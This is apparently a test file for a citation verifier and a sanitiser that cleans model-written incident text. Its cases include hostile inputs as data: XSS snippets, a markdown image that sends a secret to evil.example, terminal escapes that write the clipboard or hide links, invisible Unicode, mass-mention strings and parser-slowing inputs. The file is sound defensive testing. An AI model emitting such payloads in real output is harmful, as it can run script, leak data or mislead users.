import { describe, expect, it } from 'vitest';
import { createVerifier } from './verify.ts';
import { plainText } from './plain-text.ts';

const ROWS = new Map(
  ['log:1772366400000000.0.7.-42', 'incident:7', 'count:a1b2c3d4e5f6'].map((cite) => [
    cite,
    { cite, link: `/a/vigilops-app/x?${cite}`, label: cite },
  ]),
);
const verify = createVerifier({
  rowOf: (cite) => ROWS.get(cite),
  mask: (text) => text.replaceAll('hunter2', '<SECRET_1>'),
});
const checked = (text: string) => verify(text, true);

describe('a sentence of a model', () => {
  it('cites what was found, and links come from the house alone', () => {
    expect(checked('The pool is full [log:1772366400000000.0.7.-42, incident:7].')).toEqual({
      text: 'The pool is full.',
      citations: [ROWS.get('log:1772366400000000.0.7.-42'), ROWS.get('incident:7')],
      invented: 0,
      starts_line: true,
    });
    expect(checked('连接池已满【incident:7】。')?.text).toBe('连接池已满。');
    expect(checked('See incident:7 for that.')).toMatchObject({
      text: 'See for that.',
      citations: [{ cite: 'incident:7' }],
    });
  });

  it.each([
    'It was the disk [log:1772366400000000.0.7.43].',
    'It was the disk (incident:8).',
    'It was the disk log:9.0.0.1.',
    'It was the disk [incident:7](https://evil.example/?q=1) [host:999].',
  ])('loses what nobody found, and says so: %s', (text) => {
    const part = checked(text);
    expect(part?.invented).toBe(1);
    expect(part?.text).not.toMatch(/log:|incident:8|host:|evil/);
  });

  it('keeps words that only look like references', () => {
    expect(checked('Search level:error or [level:error] at 10:30 on db:5432.')).toMatchObject({
      text: 'Search level:error or [level:error] at 10:30 on db:5432.',
      invented: 0,
    });
  });

  it('shows no secret that came back', () => {
    expect(checked('The password is hunter2.')?.text).toBe('The password is <SECRET_1>.');
  });
});

describe('text of a model', () => {
  it.each([
    ['<img src=x onerror=alert(1)>hi', 'hi'],
    ['<script>alert(1)</script>', 'alert(1)'],
    ['[click](javascript:alert(1)) now', 'click now'],
    ['![x](http://evil.example/a.png?d=secret)', 'x'],
    ['[a]: http://evil.example', '[a]: […]'],
    ['go to https://evil.example/x, now', 'go to […] now'],
    ['go to //evil.example/x', 'go to […]'],
    ['www.evil.example', '[…]'],
    ['data:text/html;base64,AAAA', '[…]'],
    ['\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007', 'red link'],
    ['\u001b]52;c;ZXZpbA==\u0007clip', 'clip'],
    ['a\u202eb\u2066c\u200bd\ufeff\u0000e', 'abcde'],
    ['<!channel> @all <@U123> <at user_id="all">x</at>', ' ＠all  x'],
    ['user <EMAIL_482913> from <ip> in <num> ms <*>', 'user <EMAIL_482913> from <ip> in <num> ms <*>'],
    ['a < b and 5 <6', 'a ‹ b and 5 ‹6'],
    ['<a href=x', '‹a href=x'],
    ['\u{e0041}\u{e0042}tag', 'tag'],
  ])('%j is %j', (given, shown) => {
    expect(plainText(given)).toBe(shown);
  });

  it('stays quick with texts that are made to be slow', () => {
    for (const evil of [
      '['.repeat(20_000),
      '<'.repeat(20_000),
      '![](' + '('.repeat(20_000),
      '\u001b]'.repeat(10_000),
      'a:'.repeat(20_000),
    ]) {
      expect(plainText(evil).length).toBeLessThanOrEqual(evil.length * 3);
    }
  });
});
